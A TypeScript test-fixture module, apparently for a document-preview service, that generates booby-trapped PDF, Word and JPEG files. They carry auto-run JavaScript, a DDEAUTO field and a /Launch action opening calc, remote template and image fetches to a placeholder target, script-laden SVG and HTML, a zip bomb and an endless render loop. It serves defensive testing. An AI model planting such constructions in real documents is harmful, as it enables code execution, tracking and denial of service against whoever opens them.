/** Files that try to act, to load or to take for ever, each a valid file of its kind. `alvo` is an address that nobody may ask. */
import { writeZip } from '../../../tests/samples/anexos'

const latin = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'))

/** A PDF of these objects, the first its catalog, with the table that readers look for. */
function writePdf(objects: string[], before = '') {
  let text = `${before}%PDF-1.7\n`
  const table = objects.map((body, at) => {
    const offset = text.length
    text += `${at + 1} 0 obj\n${body}\nendobj\n`
    return `${String(offset).padStart(10, '0')} 00000 n \n`
  })
  const size = objects.length + 1
  const start = text.length
  return latin(
    `${text}xref\n0 ${size}\n0000000000 65535 f \n${table.join('')}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`,
  )
}
const stream = (content: string, more = '') => `<< /Length ${content.length} ${more} >>\nstream\n${content}\nendstream`
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
const page = (more = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> ${more} >>`
const TEXT = stream('BT /F 18 Tf 72 700 Td (Nara Ficticia, padeira) Tj ET')
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'

/** One page with a line of text. */
export const writeHonest = () => Buffer.from(writePdf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page(), TEXT, FONT]))

const writeActing = (alvo: string) =>
  writePdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("oi"\\); app.launchURL\\("${alvo}js"\\)) >>
      /AA << /WC << /S /JavaScript /JS (app.alert\\(2\\)) >> >> /AcroForm << /Fields [6 0 R] /XFA (x) >>
      /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(3\\)) >>] >> >> >>`,
    PAGES,
    page(`/AA << /O << /S /URI /URI (${alvo}aa) >> /C << /S /Launch /F (calc.exe) >> >> /Annots [6 0 R 7 0 R 8 0 R]`),
    TEXT,
    FONT,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (campo) /V (x) /Rect [0 0 100 30] /P 3 0 R
      /AA << /Fo << /S /SubmitForm /F << /FS /URL /F (${alvo}form) >> >> /K << /S /JavaScript /JS (app.alert\\(4\\)) >> >> >>`,
    `<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Rendition /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${alvo}video) >> >> >> >> >>`,
    '<< /Type /Annot /Subtype /Link /Rect [70 690 300 720] /A << /S /URI /URI (javascript:alert\\(5\\)) >> >>',
  ])

/** What else a PDF may ask its reader for: films, sounds, files inside and outside, and a script where a font has a number. */
const writeReaching = (alvo: string) =>
  writePdf(
    [
      `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${alvo}abre) /Next << /S /GoToR /F << /FS /URL /F (${alvo}outro.pdf) >> /D [0 /Fit] >> >>
      /Names << /EmbeddedFiles << /Names [(a.html) 9 0 R] >> >> /AF [9 0 R] >>`,
      PAGES,
      page('/Annots [6 0 R 7 0 R 8 0 R 11 0 R]'),
      TEXT,
      `<< /Type /Font /Subtype /Type1 /BaseFont /Nada /FontMatrix [0.001 0 0 0.001 0 (0\\); alert\\(6)] >>`,
      '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 9 0 R >>',
      `<< /Type /Annot /Subtype /Movie /Rect [20 0 40 20] /A true /Movie << /F << /FS /URL /F (${alvo}filme) >> /Poster true >> >>`,
      `<< /Type /Annot /Subtype /RichMedia /Rect [40 0 60 20] /RichMediaSettings << /Activation << /Condition /PV >> >>
      /RichMediaContent << /Assets << /Names [(a) 9 0 R] >> >> >>`,
      '<< /Type /Filespec /F (a.html) /EF << /F 10 0 R >> /AFRelationship /Data >>',
      stream('<script>alert(7)</script>', '/Type /EmbeddedFile /Subtype /text#2Fhtml'),
      `<< /Type /Annot /Subtype /Link /Rect [70 690 300 720] /A << /S /ImportData /F << /FS /URL /F (${alvo}dados) >>
      /Next << /S /GoToE /F << /FS /URL /F (${alvo}dentro.pdf) >> /T << /R /C /N (a) >> >> >> >>`,
    ],
    `<!doctype html><script>alert(8)</script>\n`,
  )

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const rel = (id: string, type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${mode}/>`

const writeWord = (body: string, rels = '', more: { name: string; content: string }[] = []) =>
  new Uint8Array(
    writeZip([
      {
        name: '[Content_Types].xml',
        content:
          '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ' +
          'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      },
      {
        name: '_rels/.rels',
        content: `<?xml version="1.0"?>
          <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel('r1', 'officeDocument', 'word/document.xml', '')}</Relationships>`,
      },
      {
        name: 'word/_rels/document.xml.rels',
        content: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}</Relationships>`,
      },
      {
        name: 'word/document.xml',
        content:
          `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}" ` +
          'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ' +
          `xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>${body}</w:body></w:document>`,
      },
      ...more,
    ]),
  )
const run = (text: string) => `<w:r><w:t>${text}</w:t></w:r>`

const writeActingWord = (alvo: string) =>
  writeWord(
    `<w:p>${run('Nara Fictícia, padeira')}${run('&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;')}</w:p>
    <w:p><w:hyperlink r:id="h1">${run('Minha página')}</w:hyperlink></w:p>
    <w:p><w:hyperlink r:id="h2">${run('Arquivo do disco')}</w:hyperlink></w:p>
    <w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData>
      <pic:pic><pic:blipFill><a:blip r:link="i1"/></pic:blipFill></pic:pic>
    </a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>
    <w:p><w:r><w:instrText>INCLUDEPICTURE "${alvo}campo"</w:instrText></w:r></w:p><w:altChunk r:id="c1"/>`,
    rel('h1', 'hyperlink', 'javascript:alert(3)') +
      rel('h2', 'hyperlink', 'file:///C:/x.exe') +
      rel('i1', 'image', `${alvo}imagem.png`) +
      rel('t1', 'attachedTemplate', `${alvo}modelo.dotm`) +
      rel('c1', 'aFChunk', 'pedaco.html', ''),
    [
      { name: 'word/pedaco.html', content: `<script>alert(4)</script><img src="${alvo}pedaco">` },
      { name: 'word/vbaProject.bin', content: 'x' },
    ],
  )

/** Fields, shapes and films of Word that fetch or run. */
const writeReachingWord = (alvo: string) =>
  writeWord(
    `<w:p>${run('Nara Fictícia, padeira')}</w:p>
    <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/c calc"</w:instrText></w:r>
      <w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('campo')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
    <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "javascript:alert(9)" </w:instrText></w:r>
      <w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('Clique')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
    <w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;${alvo}simples&quot;">${run('figura')}</w:fldSimple></w:p>
    <w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="javascript:alert(10)"><v:imagedata src="${alvo}forma.png"/></v:shape></w:pict></w:r></w:p>
    <w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="f"><wp15:webVideoPr
      xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;${alvo}video&quot;>"/></wp:docPr>
      <a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:embed="i1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
    rel('i1', 'image', 'media/a.svg', ''),
    [
      {
        name: 'word/media/a.svg',
        content: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(11)"><image href="${alvo}svg"/></svg>`,
      },
      { name: 'word/embeddings/oleObject1.bin', content: 'MZ' },
    ],
  )

/** A picture that draws another ten times, which draws another ten times…: a few lines that no machine comes to the end of. */
const writeEndless = () => {
  const levels = 12
  const draw = '/X Do '.repeat(10)
  const forms = Array.from({ length: levels }, (_, at) => {
    const last = at + 1 === levels
    const resources = last ? '' : `/Resources << /XObject << /X ${6 + at} 0 R >> >>`
    return stream(last ? '0 0 m 595 842 l S' : draw, `/Type /XObject /Subtype /Form /BBox [0 0 595 842] ${resources}`)
  })
  return writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
    stream(draw),
    ...forms,
  ])
}

/** By name: files that act, of which the page shows the text. */
export const writeActingFiles = (alvo: string) => ({
  'age.pdf': writeActing(alvo),
  'alcanca.pdf': writeReaching(alvo),
  'age.docx': writeActingWord(alvo),
  'alcanca.docx': writeReachingWord(alvo),
})

/** A photo with a page in its comment. */
export const writeTalkingPhoto = (jpeg: Uint8Array, alvo: string) => {
  const comment = Buffer.from(`<html><script>alert(12)</script><img src="${alvo}foto">`, 'latin1')
  return new Uint8Array(
    Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, comment.length + 2]), comment, jpeg.subarray(2)]),
  )
}

/** By name: files that are not shown, on a fast machine as on a slow one. */
export const writeTooLong = () => ({
  '301 paginas.pdf': writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Count 301 /Kids [${'3 0 R '.repeat(301)}] >>`,
    page(),
    TEXT,
    FONT,
  ]),
  'demora.pdf': writeEndless(),
  // Fifty times as much as it weighs, and more than is inflated.
  'bomba.docx': writeWord('<w:p/>', '', [{ name: 'word/media/a.png', content: '\0'.repeat(31_000_000) }]),
  'demora.docx': writeWord('<w:p><w:r><w:t>a</w:t></w:r></w:p>'.repeat(400_000)),
})
